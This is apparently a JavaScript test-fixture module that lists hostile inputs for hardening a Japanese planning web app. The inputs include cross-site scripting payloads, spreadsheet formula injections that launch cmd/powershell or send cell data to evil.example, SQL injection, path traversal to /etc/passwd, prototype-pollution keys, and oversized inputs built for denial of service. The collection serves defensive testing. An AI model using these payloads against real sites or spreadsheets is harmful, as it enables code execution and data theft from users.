// Inputs with which somebody might try to make the page do something else: in a plan, a table, an address or the
// storage. Each would call `ran()` if the browser executed it, or request `evil.example` if it loaded anything.

import { changedRecord, digest } from "./records.mjs";

const BS = "\\";

/** Texts by what they try. Any of them may come by any way. */
export const TEXTS = {
  "a script": "<script>ran()</script>",
  "a script in other letters": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "an image that fails": '<img src=x onerror="ran()">',
  "an image from elsewhere": '<img src="https://evil.example/pixel.gif">',
  "an image without blanks": "<img/src=x/onerror=ran()>",
  "a drawing": '<svg onload="ran()"><script>ran()</script></svg>',
  "an animated drawing": '<svg><animate onbegin="ran()" attributeName="x" dur="1s"></animate></svg>',
  "foreign markup in a drawing": '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
  "a formula in MathML": '<math><mtext><table><mglyph><style><img src=x onerror="ran()"></style></mglyph></table></mtext></math>',
  "a frame": '<iframe src="javascript:parent.ran()"></iframe>',
  "an object": '<object data="data:text/html,<script>ran()</script>"></object>',
  "a form": '<form action="https://evil.example/"><button autofocus onfocus="ran()">送信</button></form>',
  "a base address": '<base href="https://evil.example/">',
  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "a style": '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  "a link to a script": '<a href="javascript:ran()" autofocus>押す</a>',
  "a template": "<template><img src=x onerror=ran()></template>",
  "an attribute that ends early": '" onfocus="ran()" autofocus x="',
  "an attribute in single quotes": "' onmouseover='ran()' x='",
  "the end of a text area": "</textarea><script>ran()</script>",
  "the end of a title": "</title><script>ran()</script>",
  "a comment left open": "<!-- --!><script>ran()</script>",
  "a CDATA section": "<![CDATA[<script>ran()</script>]]>",
  "entities": "&lt;script&gt;ran()&lt;/script&gt;&#x3c;img src=x onerror=ran()&#62;",
  "a javascript: address": "javascript:ran()",
  "a javascript: address with a tab": "java\tscript:ran()",
  "a data: address": "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
  "a template expression": "{{constructor.constructor('ran()')()}}${ran()}<%= ran() %>",
  "a link as a formula": '=HYPERLINK("https://evil.example/?"&A1,"押す")',
  "a sum as a formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a command as a formula": "+cmd|' /C powershell'!A0",
  "a negative formula": "-2+3+cmd|' /C calc'!A0",
  "a web service as a formula": '=WEBSERVICE("https://evil.example/")',
  "a formula behind a tab": "\t=1+1",
  "a formula behind a line feed": "\n=1+1",
  "a formula behind a vertical tab": "\u000b=1+1",
  "a formula behind blanks": " \u3000\u00a0=1+1",
  "a formula behind NUL": "\u0000=1+1",
  "a formula behind a letter without width": "\u200b=1+1",
  "a formula behind a byte order mark": "\ufeff=1+1",
  "a formula behind a mark of direction": "\u200e=1+1",
  "a formula in full width": "＝１＋１",
  "a plus in full width": "＋１＋１",
  "a minus in full width": "－２＋３",
  "a function in full width": "＠ＳＵＭ（１）",
  "a sum": "+1+1",
  "a function": "@SUM(1)",
  "a program as a formula": "=cmd|' /C calc'!A0",
  "a formula behind a quote": "'=1+1",
  "a formula behind a separator": '","=1+1',
  "a formula behind a semicolon": "x;=1+1;\"=1+1",
  "letters from right to left": "売上\u202e000,1\u202c千円",
  "isolated letters": "\u2066=1+1\u2069",
  "letters without width": "計\u200b画\u200d名\u2060\ufeff",
  "a control character": "改\u0007め\u001b[31m\u0008\u007f\u0085",
  "nothing, NUL": "前\u0000後",
  "half a letter": "半\ud83d分",
  "the other half": "\udea9残り",
  "letters outside the plane": "𠮷野家👩‍👩‍👧‍👦",
  "marks upon marks": `上${"\u0301".repeat(500)}`,
  "no letter at all": "\ufffe\uffff",
  "a name that objects have": "__proto__",
  "a name that objects make": "constructor",
  "a method's name": "hasOwnProperty",
  "a property's path": "__proto__[ran]=1",
  "not a number": "NaN",
  "no number at all": "-Infinity",
  "a number beyond all": "1e999",
  "a number of a thousand digits": "9".repeat(1000),
  "a number as small as that": `0.${"0".repeat(1000)}1`,
  "minus zero": "-0",
  "hexadecimal": "0x7fffffffffffffff",
  "a database's text": "'; DROP TABLE plans; --",
  "a way out of the folder": "../../../../etc/passwd",
  "a device": "CON\u0000.json",
  "an escape": `${BS}u003cscript${BS}u003eran()${BS}u003c/script${BS}u003e`,
  "percent signs": "%3Cscript%3Eran()%3C/script%3E%00%s%n",
  "lines of every kind": "一\r\n二\n三\r四\u2028五\u2029六\u000b七",
  "as many letters as a cell holds": "長".repeat(32_767),
};

/**
 * Clipboard markup that is made to slow its reader down: by description, a function that makes it, and the expected message; no
 * message if the markup is refused.
 */
export const MARKUP = {
  "a tag that never ends": [() => `<table><tr><td>1<td>2<${"a".repeat(100_000)}`, "2か所に貼り付けました。"],
  "styles in a tag": [() => `<table><tr><td>1<td>2${"<style ".repeat(150_000)}`, "2か所に貼り付けました。"],
  "styles that never end": [() => `<table><tr><td>1<td>2${"<style>".repeat(150_000)}`, "2か所に貼り付けました。"],
  "attributes": [() => `<table><tr><td>1<td ${"a=9 ".repeat(150_000)}>2</table>`, "2か所に貼り付けました。"],
  "tables in one another": [() => `<table><tr><td>1<td>2<td>${"<table><tr><td>".repeat(10_000)}`, "3か所に貼り付けました。"],
  "elements in one another": [() => `<table><tr><td>1<td>${"<div><b>".repeat(100_000)}2`, "2か所に貼り付けました。"],
  "a row of spans": [() => `<table><tr>${"<td colspan=1000>1".repeat(60_000)}</table>`, null],
  "rows of spans": [() => `<table>${"<tr><td colspan=1000>1".repeat(60_000)}</table>`, null],
  "more than is read": [() => `<table><tr><td>1<td>2</table>${" ".repeat(10_000_000)}`, null],
};

/** Addresses after the `#`. */
export const FRAGMENTS = [
  "#/plan/<script>ran()</script>",
  "#/plan/<img src=x onerror=ran()>/kpi",
  "#/plan/%3Cscript%3Eran()%3C%2Fscript%3E/kpi",
  "#/plan/pbbbbbbbbbb/kpi",
  "#/plan/pbbbbbbbbbb/close/99999999999999999999",
  "#/plan/pbbbbbbbbbb/close/-1",
  "#/plan/pbbbbbbbbbb/close/NaN",
  "#/plan/__proto__/kpi",
  "#/plan/constructor/facts",
  "#/plan/../../bin",
  "#//////",
  "#/plan//kpi",
  "#/plan/pbbbbbbbbbb/kpi/kpi/kpi",
  "#javascript:ran()",
  "#data:text/html,<script>ran()</script>",
  "#https://evil.example/",
  "#//evil.example/",
  "#%00%ff%c0%af",
  "#%",
  "#\u202e/plan",
  "#/plan/𠮷/kpi",
  "#main\" onfocus=\"ran()",
  `#/plan/${"p".repeat(50_000)}/kpi`,
  `#${"/".repeat(10_000)}`,
];

const nested = (levels, [open, close]) => open.repeat(levels) + close.repeat(levels);

/** Files that are not sound plan files, by description. `whole` is a sound file. */
export const BROKEN_FILES = {
  "a thousand lists in one another": () => nested(1000, "[]"),
  "a hundred thousand lists, never closed": () => "[".repeat(100_000),
  "a thousand objects in one another": () => `${'{"a":'.repeat(1000)}1${"}".repeat(1000)}`,
  "plans that are nested": () => `{"format":1,"app":"0","plans":${nested(1000, "[]")},"lineage":{}}`,
  "a format beyond all": () => '{"format":1e999,"app":"0","plans":[],"lineage":{}}',
  "a format of a thousand digits": () => `{"format":${"9".repeat(1000)},"app":"0","plans":[],"lineage":{}}`,
  "a format below zero": () => '{"format":-1,"app":"0","plans":[],"lineage":{}}',
  "fields that objects have": () => '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}},"format":1,"app":"0","plans":[],"lineage":{}}',
  "lineages of names that objects have": () => '{"format":1,"app":"0","plans":[],"lineage":{"__proto__":{"ran":1},"constructor":1}}',
  "fields that are there twice": () => '{"format":1,"format":1,"app":"0","plans":[],"plans":[],"lineage":{}}',
  "the same plan twice": (whole) => whole.replace(/\n(\{.*\})\n\]/, "\n$1,\n$1\n]"),
  "half a letter, escaped": (whole) => whole.replace(/"name":"[^"]*"/, '"name":"\\ud800"'),
  "NUL, escaped": (whole) => whole.replace(/"name":"[^"]*"/, '"name":"\\u0000"'),
  "NUL as it is": (whole) => whole.replace(/"name":"/, '"name":"\u0000'),
  "another id": (whole) => whole.replace(/"id":"p[^"]*"/, '"id":"__proto__"'),
  "years by names that objects have": (whole) => whole.replace(/"20\d\d":/, '"__proto__":'),
  "a number beyond all": (whole) => whole.replace(/"value":"[^"]*"/, '"value":"1e999"'),
  "an alien body": (whole) => whole.replace(/"body":\{/, '"body":{"__proto__":{},'),
  "a file cut in its middle": (whole) => whole.slice(0, whole.length / 2),
  "nothing but marks": () => "\ufeff\ufeff\ufeff",
  "markup": () => "<!doctype html><script>ran()</script>",
  "a drawing": () => '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
};

const HEADINGS = "指標名,単位,区分,2022年度,備考\r\n";
const rows = (count, row) => HEADINGS + Array.from({ length: count }, (_, nth) => row(nth)).join("");

/** Tables whose size is the attack: by description, with the expected message. Quadratic work would never end. */
export const LARGE_TABLES = {
  "one new name in twenty thousand rows": [() => rows(20_000, () => "新しい指標,件,目標,1,\r\n"), "どの計画に"],
  "twenty thousand new names": [() => rows(20_000, (nth) => `新しい指標${nth},件,目標,1,\r\n`), "一つの計画に入れられるのは500件まで"],
  "headings five thousand times": [() => `${HEADINGS}指標,件,目標,1,\r\n`.repeat(5000), "どの計画に"],
  "a hundred thousand columns": [
    () => `指標名,区分,2022年度${",メモ".repeat(100_000)}\r\n指標,目標,1${",x".repeat(100_000)}\r\n`,
    "1行目は100003列目まで記入があります",
  ],
  "nine hundred columns that are not known": [
    () => `指標名,区分,2022年度${Array.from({ length: 900 }, (_, nth) => `,メモ${nth}`).join("")}\r\n指標,目標,1${",x".repeat(900)}\r\n`,
    "見出しの意味がわからない列が900列あり、読み取りません",
  ],
  "a name of four megabytes": [() => `${HEADINGS}${"長".repeat(1_400_000)},件,目標,1,\r\n`, "1列目の文字が1400000文字あります"],
  "sixty cells of fifteen thousand brackets": [
    () => rows(60, (nth) => `指標${nth},件,目標,${"（".repeat(15_000)}1${"）".repeat(15_000)},\r\n`),
    "大きなファイルです",
  ],
  "sixty cells of many years": [
    () => rows(60, (nth) => `指標${nth},件,目標,${"R5：10人、".repeat(4_500)},\r\n`),
    "表の読み取り",
  ],
  "one line without end": [() => `指標名${" 12 34".repeat(200_000)}`, "1列目の文字が1200003文字あります"],
  "a hundred names of three thousand letters": [() => rows(100, (nth) => `${"長".repeat(3000)}${nth},件,目標,1,\r\n`), "どの計画に"],
};

/** Records whose size is the attack: the order of the list, and which tabs wrote a plan. */
export const LARGE_INDEX = () => {
  const id = (nth) => `p${[...String(nth).padStart(10, "0")].map((digit) => "bcdfghjkmn"[digit]).join("")}`;
  const body = JSON.stringify(Array.from({ length: 100_000 }, (_, nth) => id(nth)));
  return `{"format":7,"app":"0.1.0","digest":"${digest(body)}","body":${body}}`;
};
export const LARGE_VECTOR = Array.from({ length: 80_000 }, (_, nth) => `${nth.toString(16).padStart(8, "0")}:1`).join(" ");

/** Records that another program has stored under our keys. */
export const RECORDS = {
  "keikaku/plan/": "",
  "keikaku/plan/__proto__": '{"format":1}',
  "keikaku/plan/<img src=x onerror=ran()>": "<script>ran()</script>",
  "keikaku/plan/pcccccccccc": nested(1000, "[]"),
  "keikaku/plan/pdddddddddd": '{"format":1e999,"app":"0","digest":"0","body":{}}',
  "keikaku/plan/pffffffffff": '{"format":7,"app":"<script>ran()</script>","digest":"cbf29ce484222325","body":}',
  "keikaku/plan/pgggggggggg": "9".repeat(100_000),
  "keikaku/plan/phhhhhhhhhh": '{"format":99999999999999999999,"app":"0"}',
  "keikaku/plan/pjjjjjjjjjj": "\u0000\ud800\udfff",
  "keikaku/lineage/__proto__": "{",
  "keikaku/lineage/pbbbbbbbbbb": '{"format":7,"app":"0","digest":"0","body":{"tables":[]}}',
  "keikaku/index": '{"format":7,"app":"0","digest":"0","body":["__proto__"]}',
  "keikaku/settings": '{"format":7,"app":"0","digest":"0","body":{"language":"<script>ran()</script>"}}',
  "keikaku/copy/x/1": "<script>ran()</script>",
  "keikaku/__proto__": "constructor",
};

/** A plan file with that plan renamed and a valid digest, as made by somebody who knows the format. */
export function renamed(record, id, name) {
  // A surrogate without its pair becomes the replacement character, since the file is UTF-8.
  const called = `"name":${JSON.stringify(name.toWellFormed?.() ?? name)}`;
  return changedRecord(record, (body) => {
    return body.replace(/"id":"p[^"]*"/, `"id":"${id}"`).replace(/"name":"(?:[^"\\]|\\.)*"/, () => called);
  });
}
